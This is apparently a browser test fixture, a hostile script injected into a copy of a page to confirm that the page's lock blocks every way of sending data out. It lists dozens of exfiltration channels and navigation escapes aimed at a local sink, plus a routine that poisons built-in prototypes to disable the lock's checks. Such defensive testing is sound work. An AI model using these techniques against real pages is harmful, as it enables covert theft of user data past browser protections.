// A hostile page script for the test that nothing can be sent. It is packed into a copy of the page, in front of
// the page's own code, so that it runs with all of a page script's rights. The address tells it where to send:
// `#/probe/<port>/<udp port>` tries every channel at once, `#/leave/<port>/<udp port>/<name>` tries one way of leaving.
(() => {
  const [, order, port, udpPort, way] = location.hash.split("/");
  if (order !== "probe" && order !== "leave") return;
  const sink = `http://127.0.0.1:${port}`;
  const secret = "?secret=5X6B6plUwUSXZnjQ4kGM33mpMXY";
  const add = (name, attributes, place = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    place.append(element);
    return element;
  };
  const link = (rel, more = {}) => (url) => add("link", { rel, href: url, ...more }, document.head);
  const style = (text) => (url) => {
    const element = add("style", {}, document.head);
    element.textContent = text(url);
    add("p", { class: "probe" }).textContent = "probe";
  };

  /// With WebRTC, whoever has it.
  const knock = ({ RTCPeerConnection }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
    peer.createDataChannel("probe");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };

  const channels = {
    fetch: (url) => fetch(url),
    "fetch-post": (url) => fetch(url, { method: "POST", mode: "no-cors", body: secret }),
    "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true }),
    "fetch-later": (url) => self.fetchLater(url, { activateAfter: 0 }),
    "xml-http-request": (url) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, secret),
    "web-socket": (url) => new WebSocket(url.replace("http", "ws")),
    "event-source": (url) => new EventSource(url),
    image: (url) => (new Image().src = url),
    "image-srcset": (url) => add("img", { srcset: `${url} 1x` }),
    "picture-source": (url) => add("source", { srcset: url }, add("picture", {})).after(document.createElement("img")),
    "input-image": (url) => add("input", { type: "image", src: url }),
    "svg-image": (url) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", url);
      svg.append(image);
      document.body.append(svg);
    },
    "body-background": (url) => document.body.setAttribute("background", url),
    "background-image": (url) => (add("div", {}).style.backgroundImage = `url(${url})`),
    "list-image": (url) => (add("li", {}).style.listStyleImage = `url(${url})`),
    "border-image": (url) => Object.assign(add("div", {}).style, { border: "9px solid", borderImage: `url(${url}) 9` }),
    "style-import": style((url) => `@import url(${url});`),
    "style-background": style((url) => `.probe { background: url(${url}) }`),
    "style-font": style((url) => `@font-face { font-family: probe; src: url(${url}) } .probe { font-family: probe }`),
    "font-face": (url) => new FontFace("other", `url(${url})`).load(),
    "link-stylesheet": link("stylesheet"),
    "link-prefetch": link("prefetch"),
    "link-preload": link("preload", { as: "fetch", crossorigin: "" }),
    "link-preload-image": link("preload", { as: "image" }),
    "link-module-preload": link("modulepreload"),
    "link-icon": link("icon"),
    "link-manifest": link("manifest"),
    "link-prerender": link("prerender"),
    script: (url) => (add("script", {}, document.head).src = url),
    "module-script": (url) => {
      const script = document.createElement("script");
      script.type = "module";
      script.src = url;
      document.head.append(script);
    },
    import: (url) => import(url),
    frame: (url) => add("iframe", { src: url }),
    "frame-document": (url) => add("iframe", { srcdoc: `<img src="${url}">` }),
    object: (url) => add("object", { data: url }),
    embed: (url) => add("embed", { src: url }),
    video: (url) => add("video", { src: url, preload: "auto" }),
    "video-poster": (url) => add("video", { poster: url }),
    audio: (url) => add("audio", { src: url, preload: "auto" }),
    "inner-html": (url) => (add("div", {}).innerHTML = `<img src="${url}">`),
    "form-into-frame": (url) => {
      add("iframe", { name: "target" });
      add("form", { action: url, method: "post", target: "target" }).submit();
    },
    ping: (url) => add("a", { href: location.hash, ping: url }).click(),
    "speculation-rules": (url) => {
      const rules = { prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] };
      add("script", { type: "speculationrules" }, document.head).textContent = JSON.stringify(rules);
    },
    "worker-from-text": (url) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    },
    "worker-from-address": (url) => new Worker(url),
    "web-transport": (url) => new WebTransport(url.replace("http:", "https:")),
    stun: () => knock(self),
    eval: (url) => (0, eval)(`new Image().src = ${JSON.stringify(url)}`),
    "new-function": (url) => new Function(`new Image().src = ${JSON.stringify(url)}`)(),
  };

  /// What a script finds that empties the page's own window of what a lock put there.
  const frame = (name = "iframe") => add(name, {}).contentWindow;
  const detached = (url, more) => Object.assign(document.createElement("a"), { href: url, target: "_blank" }, more);
  const inSvg = (name) => document.createElementNS("http://www.w3.org/2000/svg", name);
  const svgLink = (url) => {
    const [svg, anchor] = [inSvg("svg"), inSvg("a")];
    anchor.setAttribute("href", url);
    anchor.setAttribute("target", "_blank");
    svg.append(anchor);
    document.body.append(svg);
    return anchor;
  };
  const clicked = (options) => new MouseEvent("click", { bubbles: true, cancelable: true, composed: true, ...options });
  /// A link of the page's own, until it is clicked.
  const changing = (url, place) => {
    const anchor = add("a", { href: "#/rules" });
    place(anchor).addEventListener("click", () => Object.assign(anchor, { href: url, target: "_blank" }));
    anchor.click();
  };

  const leaving = {
    location: (url) => (location.href = url),
    replace: (url) => location.replace(url),
    window: (url) => window.open(url),
    "window-without-opener": (url) => window.open(url, "_blank", "noopener"),
    link: (url) => add("a", { href: url }).click(),
    "link-to-window": (url) => add("a", { href: url, target: "_blank" }).click(),
    "link-download": (url) => add("a", { href: url, download: "report" }).click(),
    refresh: (url) => add("meta", { "http-equiv": "refresh", content: `0;url=${url}` }, document.head),
    "form-get": (url) => add("form", { action: url, method: "get" }).submit(),
    "form-post": (url) => add("form", { action: url, method: "post" }).submit(),
    "document-open": (url) => document.open(url, "_blank", ""),
    "document-opened-anew": (url) => {
      // Takes every listener off the window.
      document.open();
      document.append(document.createElement("html"));
      add("a", { href: url, target: "_blank" }, document.documentElement).click();
    },
    "link-detached": (url) => detached(url).click(),
    "link-detached-event": (url) => detached(url).dispatchEvent(clicked()),
    "link-detached-under-a-listener": (url) => {
      const holder = document.createElement("p");
      holder.addEventListener("click", (event) => event.stopImmediatePropagation(), true);
      holder.append(detached(url));
      holder.firstChild.click();
    },
    "link-detached-download": (url) => detached(url, { target: "", download: "report" }).click(),
    "link-not-to-be-cancelled": (url) => add("a", { href: url, target: "_blank" }).dispatchEvent(clicked({ cancelable: false })),
    "link-in-closed-shadow": (url) => {
      const shadow = add("div", {}).attachShadow({ mode: "closed" });
      add("a", { href: url, target: "_blank" }, shadow).click();
    },
    "link-not-composed": (url) => {
      const shadow = add("div", {}).attachShadow({ mode: "open" });
      add("a", { href: url, target: "_blank" }, shadow).dispatchEvent(clicked({ composed: false }));
    },
    "link-svg": (url) => svgLink(url).dispatchEvent(clicked()),
    "link-svg-animated": (url) => {
      const anchor = svgLink("#/rules");
      const set = inSvg("set");
      for (const [name, value] of Object.entries({ attributeName: "href", to: url })) set.setAttribute(name, value);
      anchor.append(set);
      setTimeout(() => anchor.dispatchEvent(clicked()), 300);
    },
    "link-area": (url) => add("area", { href: url, target: "_blank" }, add("map", { name: "map" })).click(),
    "link-around": (url) => add("span", {}, add("a", { href: url, target: "_blank" })).click(),
    "link-changing": (url) => changing(url, (anchor) => anchor),
    "link-changed-later": (url) => changing(url, () => self),
    "link-with-control": (url) => add("a", { href: url, target: "_blank" }).dispatchEvent(clicked({ ctrlKey: true })),
    "link-pretending": (url) => {
      const anchor = add("a", { href: url, target: "_blank" });
      for (const name of ["href", "localName", "nodeName", "target"]) Object.defineProperty(anchor, name, { value: "" });
      anchor.click();
    },
    "frame-open": (url) => frame().open(url),
    "frame-by-number": (url) => {
      frame();
      self[0].open(url);
    },
    "frame-of-xml": (url) => {
      const made = document.implementation.createDocument(null, "x").createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
      document.body.append(made);
      made.contentWindow.open(url);
    },
    "frame-of-ones-own": (url) => {
      customElements.define("own-frame", class extends HTMLIFrameElement {}, { extends: "iframe" });
      const made = new (customElements.get("own-frame"))();
      document.body.append(made);
      made.contentWindow.open(url);
    },
    "frame-webrtc": () => knock(frame()),
    "frame-in-frames": (url) => {
      const frames = add("frameset", {}, document.documentElement);
      add("frame", {}, frames).contentWindow.open(url);
    },
    "frame-set-html": (url) => {
      const place = add("div", {});
      place.setHTML('<div><template shadowrootmode="open"><a></a></template></div>', { sanitizer: {} });
      const anchor = Object.assign(place.firstChild.shadowRoot.querySelector("a"), { href: url, target: "_blank" });
      anchor.dispatchEvent(clicked({ composed: false }));
    },
    preconnect: link("preconnect"),
    "preconnect-with-the-icon": (url) => {
      const icon = document.querySelector("link").cloneNode();
      document.head.append(Object.assign(icon, { rel: "preconnect", href: url }));
    },
    // What the lock itself would call, made to do nothing.
    "after-changes-location": (url) => {
      disarm();
      location.href = url;
    },
    "after-changes-link": (url) => {
      const anchor = add("a", { href: url, target: "_blank" });
      disarm();
      anchor.click();
    },
    "after-changes-detached": (url) => {
      const anchor = detached(url);
      disarm();
      anchor.click();
    },
    "after-changes-frame": (url) => {
      disarm();
      frame().open(url);
    },
  };
  const disarm = () => {
    Event.prototype.preventDefault = () => {};
    Event.prototype.composedPath = () => [];
    String.prototype.split = () => [location.href.slice(0, location.href.indexOf("#"))];
    String.prototype.startsWith = String.prototype.includes = () => true;
    String.prototype.indexOf = () => 0;
    String.prototype.slice = () => "";
    Array.prototype[Symbol.iterator] = function* () {};
    Array.prototype.find = Array.prototype.some = () => undefined;
    Function.prototype.call = Function.prototype.apply = () => {};
    Reflect.apply = () => {};
    Object.defineProperty(Event.prototype, "defaultPrevented", { get: () => true });
    Object.defineProperty(Element.prototype, "localName", { get: () => "p" });
    Object.defineProperty(Node.prototype, "parentNode", { get: () => null });
  };

  const attempt = (name, work) => {
    try {
      Promise.resolve(work(`${sink}/${name}${secret}`)).catch(() => {});
    } catch {
      // A refusal is what the page promises; the sink tells whether it held.
    }
  };
  addEventListener("load", () => {
    if (order === "leave") attempt(way, leaving[way]);
    else for (const [name, work] of Object.entries(channels)) attempt(name, work);
    document.documentElement.dataset.probe = Object.keys(order === "leave" ? leaving : channels).join(" ");
  });
})();
